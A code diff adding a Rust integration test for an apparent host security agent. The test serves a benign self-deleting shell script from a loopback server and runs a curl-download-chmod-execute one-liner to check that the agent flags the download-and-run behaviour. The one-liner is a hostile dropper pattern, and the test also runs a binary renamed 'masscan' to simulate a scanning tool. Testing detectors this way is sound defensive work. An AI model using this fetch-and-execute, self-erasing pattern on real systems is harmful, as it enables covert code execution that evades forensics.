@@ -2098,6 +2098,110 @@ fn agent_prints_stores_and_lists_findings() {
     );
 }
 
+/// A self-deleting dropper through the agent binary: a `#!/bin/sh` script fetched with curl
+/// from a loopback server, made executable and run, whose first line removes it. The agent
+/// reads records in batches (a quarter MiB or its poll interval), so on a busy host it reads
+/// such an exec after the script and its process are gone; the test makes that certain by
+/// stopping the agent (its parent's SIGSTOP is no tampering) while the dropper runs. No file
+/// is left to `stat` and no process to read `/proc/<pid>/exe` of: the agent takes the
+/// interpreter from the argv the kernel wrote (checked against the inode it ran), and the
+/// shell's open of its script carries the writer the kernel recorded:
+/// `behaviour-download-exec`, naming curl and the script.
+#[test]
+fn a_self_deleting_downloaded_script_through_the_agent_binary() {
+    let test = "a_self_deleting_downloaded_script_through_the_agent_binary";
+    if !privileged(test) {
+        return;
+    }
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
+    let port = listener.local_addr().expect("address").port();
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut stream) = stream else { continue };
+            let mut reader = BufReader::new(&stream);
+            let mut line = String::new();
+            while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
+                line.clear();
+            }
+            let body = b"#!/bin/sh\nrm -f \"$0\"\ntrue\n";
+            let _ = write!(
+                stream,
+                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n",
+                body.len()
+            );
+            let _ = stream.write_all(body);
+        }
+    });
+    let dir = Scratch::new("selfdel");
+    let mut agent = Command::new(AGENT_BIN)
+        .args(["run", "--findings-only", "--no-store", "--duration", "600s"])
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("start the agent");
+    let stdout = agent.stdout.take().expect("stdout");
+    let (tx, rx) = std::sync::mpsc::channel::<Finding>();
+    std::thread::spawn(move || {
+        for line in BufReader::new(stdout).lines().map_while(Result::ok) {
+            let _ = tx.send(serde_json::from_str(&line).expect("a finding document per line"));
+        }
+    });
+    // First, until the agent reports a tool it sees run: it has attached and reads records.
+    let tool = dir.program("/bin/true", "masscan");
+    let deadline = std::time::Instant::now() + Duration::from_secs(300);
+    let mut attached = false;
+    'attach: while std::time::Instant::now() < deadline {
+        let _ = Command::new(&tool).status();
+        while let Ok(f) = rx.recv_timeout(Duration::from_millis(500)) {
+            if rule_id(&f) == "tool-masscan" {
+                attached = true;
+                break 'attach;
+            }
+        }
+    }
+    assert!(attached, "the agent reported no run of {}", tool.display());
+    // The dropper while the agent is stopped. Through bash, as a script's lines: the script's
+    // interpreter (dash) is not its parent's image, which the agent would otherwise take.
+    let script = dir.0.join("s.sh");
+    // SAFETY: signalling our own child.
+    unsafe { libc::kill(agent.id() as i32, libc::SIGSTOP) };
+    let status = Command::new("/bin/bash")
+        .arg("-c")
+        .arg(format!(
+            "curl -s -o {0} http://127.0.0.1:{port}/s.sh && chmod +x {0} && {0}",
+            script.display()
+        ))
+        .status();
+    // SAFETY: as above.
+    unsafe { libc::kill(agent.id() as i32, libc::SIGCONT) };
+    let status = status.expect("bash");
+    assert!(status.success(), "{status}");
+    assert!(!script.exists(), "the script removed itself");
+    let mut found: Option<Finding> = None;
+    while let Ok(f) = rx.recv_timeout(Duration::from_secs(60)) {
+        if rule_id(&f) == "behaviour-download-exec"
+            && f.context.file_path.as_deref() == script.to_str()
+        {
+            found = Some(f);
+            break;
+        }
+    }
+    // SAFETY: signalling our own child.
+    unsafe { libc::kill(agent.id() as i32, libc::SIGTERM) };
+    let _ = agent.wait();
+    let f = found.expect("the self-deleting script was reported");
+    assert_eq!(f.finding_type, "Execution:Runtime/SuspiciousCommand");
+    assert_eq!(f.severity_label, SeverityLabel::High);
+    assert_eq!(f.context.additional["downloadedBy"], "/usr/bin/curl");
+    let shell = std::fs::canonicalize("/bin/sh").expect("/bin/sh");
+    assert_eq!(
+        f.process.as_ref().map(|p| p.executable_path.as_str()),
+        shell.to_str(),
+        "the script's process is its interpreter"
+    );
+}
+
 /// `--disable-finding`: the agent never raises a disabled type, and raises the others. The
 /// `vm_write` hook stays on (SecurityAgentTampered reads it too), so the detector is what keeps
 /// `ProcessInjection.VirtualMemoryWrite` out.
